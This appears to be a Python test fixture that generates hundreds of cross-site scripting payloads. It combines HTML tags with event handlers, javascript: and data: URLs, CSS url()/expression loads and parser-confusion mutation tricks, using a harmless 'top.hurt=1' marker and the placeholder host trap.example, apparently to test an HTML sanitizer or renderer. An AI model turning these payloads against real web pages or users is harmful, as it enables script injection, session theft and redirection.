"""Markup that runs, loads or leads away where it is taken as markup: made of parts, so that each is tried with each.

What runs says `top.hurt=1`; what is loaded is of `trap.example`.
"""

from __future__ import annotations

RUNS, LOADS = "top.hurt=1", "https://trap.example/"

_TAGS = (
    "img", "image", "input type=image", "video", "audio", "video><source", "svg", "svg><image", "svg><animate attributeName=x",
    "body", "iframe", "object", "embed", "details open", "marquee", "select autofocus", "textarea autofocus", "a tabindex=1 autofocus",
    "math", "math><mtext", "x-own contenteditable autofocus", "table background=x", "style", "link rel=stylesheet", "dialog open",
)  # fmt: skip
_HANDLERS = ("onload", "onerror", "onfocus", "ontoggle", "onbegin", "OnPointerEnter")
_OF_ADDRESS = (
    '<a href="{}">words</a>', '<area shape=rect coords=0,0,9,9 href="{}">', '<form action="{}"><button>words</button></form>',
    '<button formaction="{}">words</button>', '<iframe src="{}"></iframe>', '<frameset><frame src="{}"></frameset>', '<embed src="{}">',
    '<object data="{}"></object>', '<base href="{}">', '<link rel=stylesheet href="{}">', '<link rel=preload as=image href="{}">',
    '<img src="{}">', '<img srcset="{} 2x">', '<input type=image src="{}">', '<video poster="{}"></video>', '<audio src="{}" autoplay></audio>',
    '<video><track src="{}" default></video>', '<svg><use href="{}"/></svg>', '<svg><image xlink:href="{}"/></svg>',
    '<svg><a xlink:href="{}"><text y=9>words</text></a></svg>', '<meta http-equiv=refresh content="0;url={}">',
    '<table background="{}"><tr><td>words</table>', '<script src="{}"></script>', '<p style="background:url({})">words</p>',
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUNS}", f"jAvAsCrIpT:{RUNS}", f"java&#9;script:{RUNS}", f"&#x6a;avascript&colon;{RUNS}", f" \x01javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>", LOADS + "a", "//trap.example/b",
)  # fmt: skip
_OF_STYLE = (
    "@import '{0}c';", "@import url({0}d);", "*{{background:url({0}e)}}", "*{{background-image:image-set('{0}f' 1x)}}", "*{{cursor:url({0}g),auto}}",
    "*{{list-style:url({0}h)}}", "p::before{{content:url({0}i)}}", "@font-face{{font-family:x;src:url({0}j)}}*{{font-family:x}}", "*{{mask:url({0}k)}}",
    "*{{width:expression({1})}}", "*{{behavior:url({0}l)}}", "*{{border-image:url({0}m) 1}}", "*{{background:u\\rl({0}n)}}", "*{{filter:url({0}o#a)}}",
)  # fmt: skip
_OF_PARSERS = (
    "<script>{0}</script>", "<ScRiPt\n>{0}</sCrIpT >", "<script>{0}", "<<script>{0}//<</script>", '"><script>{0}</script>', "'><img src=x onerror={0}>",
    "</textarea><img src=x onerror={0}>", "</title><img src=x onerror={0}>", "</style><img src=x onerror={0}>", "--><img src=x onerror={0}>",
    "<!--><img src=x onerror={0}>-->", "<![CDATA[><img src=x onerror={0}>]]>", "<?xml version='1.0'?><img src=x onerror={0}>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<template><img src=x onerror={0}></template>", "<xmp><img src=x onerror={0}></xmp>",
    "<svg><style><img src=x onerror={0}></style></svg>", "<svg></p><style><a title=\"</style><img src=x onerror={0}>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={0}></annotation-xml></math>", "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>", "<select><style></select><img src=x onerror={0}></style>",
    "<iframe srcdoc=\"<img src=x onerror={0}>\"></iframe>", "<iframe srcdoc='&lt;script&gt;{0}&lt;/script&gt;'></iframe>", "<plaintext><img src=x onerror={0}>",
    "<svg><script href='data:,{0}'/></svg>", "<svg><set attributeName=onload to={0} /></svg>", "<img src=x onerror=&#116;op.hurt=1>", "<img/src=x/onerror={0}>",
    "<img src=x onerror\x0c={0}>", "<img src='x' 'onerror={0}' onerror={0}>", "<a href=x style=x:y onmouseover={0} autofocus onfocus={0} tabindex=1>words</a>",
    "\u2028<img src=x onerror={0}>", "\ufeff<script>{0}</script>", "\x00<script\x00>{0}</script>", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "[words](javascript:{0})", "![words](https://trap.example/p)", "<javascript:{0}>", "$\\href{{javascript:{0}}}{{words}}$", ":material/<img src=x onerror={0}>:",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "`{0}`", "\\x3cscript\\x3e{0}\\x3c/script\\x3e", "&lt;img src=x onerror={0}&gt;", "%3Cscript%3E{0}%3C/script%3E",
)  # fmt: skip

SCRIPTS = [
    *(f"<{tag} src=x {handler}={RUNS}>words" for tag in _TAGS for handler in _HANDLERS),
    *(template.format(address) for template in _OF_ADDRESS for address in _ADDRESSES),
    *(f"<style>{rule.format(LOADS, RUNS)}</style>" for rule in _OF_STYLE),
    *(f'<p style="{rule.format(LOADS, RUNS)}">words</p>' for rule in _OF_STYLE),
    *(text.format(RUNS) for text in _OF_PARSERS),
]
